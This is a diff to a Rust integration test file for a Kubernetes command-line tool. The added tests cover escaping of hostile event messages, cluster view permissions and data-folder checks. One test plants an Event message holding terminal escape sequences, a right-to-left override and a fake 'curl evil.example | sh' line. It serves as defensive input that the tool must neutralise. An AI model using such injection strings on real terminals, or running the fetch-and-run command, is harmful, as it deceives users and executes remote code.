@@ -6,12 +6,13 @@ use std::{path::Path, process::Command, time::Duration};
 
 use k8s_openapi::api::{
     apps::v1::Deployment,
-    core::v1::{Pod, Service},
-    rbac::v1::{Role, RoleBinding},
+    core::v1::{Event, Pod, Service},
+    rbac::v1::{ClusterRole, ClusterRoleBinding, Role, RoleBinding},
 };
 use kube::{
     Api,
     api::{ListParams, Patch, PatchParams, PostParams},
+    runtime::wait::await_condition,
 };
 use serde_json::{Value, json};
 
@@ -188,6 +189,121 @@ fn check_skips_the_server_of_an_unused_data_folder() {
         stdout.contains("skipped: no neap up uses the data folder"),
         "{stdout}"
     );
+}
+
+#[tokio::test]
+async fn what_an_event_says_cannot_command_the_terminal() {
+    let sandbox = Sandbox::new();
+    let up = sandbox.up(&[]);
+    let kubeconfig = up.kubeconfig_path();
+    create_crashing_pod(&kubeconfig).await;
+    let events: Api<Event> = Api::default_namespaced(connect(&kubeconfig).await);
+    let message = "\u{1b}]0;owned\u{7}\u{1b}[2Jlost\nDo       curl evil.example | sh\u{202e}";
+    let event = json!({
+        "metadata": {"name": "hostile"}, "type": "Warning", "reason": "Failed", "message": message,
+        "involvedObject": {"kind": "Pod", "name": "web-0", "namespace": "default"},
+        "lastTimestamp": "2026-01-01T00:00:00Z",
+    });
+    let event = serde_json::from_value(event).unwrap();
+    events.create(&PostParams::default(), &event).await.unwrap();
+    let explained = neap(&sandbox, &kubeconfig, &["explain", "pod/web-0"]);
+    let (_, stdout, stderr) = parts(&explained);
+    assert!(stdout.contains(r"\u{1b}]0;owned\u{7}"), "{stdout}{stderr}");
+    assert!(
+        !stdout.lines().any(|line| line.starts_with("Do       curl")),
+        "{stdout}"
+    );
+    for output in [&explained, &neap(&sandbox, &kubeconfig, &["status"])] {
+        let text = format!("{}{}", output.stdout, output.stderr);
+        let obeyed = text
+            .chars()
+            .find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
+        assert_eq!(obeyed, None, "{text:?}");
+    }
+    let explained = neap(
+        &sandbox,
+        &kubeconfig,
+        &["explain", "pod/web-0", "-o", "json"],
+    );
+    assert!(
+        json_of(&explained)["seen"][0]
+            .as_str()
+            .unwrap()
+            .contains(message)
+    );
+}
+
+#[tokio::test]
+async fn who_may_view_the_cluster_may_view_the_kinds_of_all_areas() {
+    let sandbox = Sandbox::new();
+    let up = sandbox.up(&[]);
+    let kubeconfig = up.kubeconfig_path();
+    let client = connect(&kubeconfig).await;
+    let bindings: Api<ClusterRoleBinding> = Api::all(client.clone());
+    let binding = json!({
+        "metadata": {"name": "eve"},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "view"},
+        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "eve"}],
+    });
+    let binding = serde_json::from_value(binding).unwrap();
+    let created = bindings.create(&PostParams::default(), &binding).await;
+    created.unwrap();
+    // Roles are put together a moment after they were created.
+    let complete = |role: Option<&ClusterRole>| {
+        let text = serde_json::to_string(&role).unwrap();
+        [
+            "elastiservices",
+            "buildbarnworkers",
+            "imagestreams",
+            "clusterdeployments",
+            "operations",
+        ]
+        .iter()
+        .all(|kind| text.contains(kind))
+    };
+    let waited = await_condition(Api::<ClusterRole>::all(client), "view", complete);
+    tokio::time::timeout(Duration::from_mins(1), waited)
+        .await
+        .unwrap()
+        .unwrap();
+    let eves = sandbox.path("eves");
+    let text = std::fs::read_to_string(&kubeconfig).unwrap();
+    std::fs::write(
+        &eves,
+        text.replacen("    token:", "    as: eve\n    token:", 1),
+    )
+    .unwrap();
+    let status = json_of(&neap(&sandbox, &eves, &["status", "-o", "json"]));
+    assert_eq!(status["hidden"], json!(["Node", "StorageClass"]));
+    for command in [["idle", "list"], ["farm", "list"], ["release", "list"]] {
+        let listed = neap(&sandbox, &eves, &command);
+        assert_eq!(listed.code, Some(0), "{command:?}: {}", listed.stderr);
+    }
+}
+
+#[test]
+fn check_of_a_folder_that_no_server_uses_asks_the_server_of_kubeconfig() {
+    let sandbox = Sandbox::new();
+    let data = sandbox.path("data");
+    let folder = data.to_str().unwrap();
+    assert_eq!(sandbox.up(&["--data", folder]).stop("TERM").code, Some(0));
+    let up = sandbox.up(&["--bare"]);
+    let kubeconfig = up.kubeconfig_path();
+    let check = neap(&sandbox, &kubeconfig, &["check", "--data", folder]);
+    let (_, stdout, stderr) = parts(&check);
+    assert!(!stdout.contains("skipped: no neap up"), "{stdout}{stderr}");
+    assert!(
+        stdout.contains("authenticated as admin"),
+        "{stdout}{stderr}"
+    );
+    assert!(stdout.contains("no neap up uses it"), "{stdout}");
+    std::fs::write(data.join("store/FORMAT"), "noise").unwrap();
+    let check = neap(&sandbox, &kubeconfig, &["check", "--data", folder]);
+    assert_eq!(check.code, Some(1), "{check:?}");
+    let refused = sandbox.refused(&["--data", folder]);
+    let part = "FORMAT does not name a data format; check that this is a data folder of neap";
+    assert!(check.stdout.contains(part), "{check:?}");
+    assert!(refused.stderr.contains(part), "{refused:?}");
 }
 
 #[test]
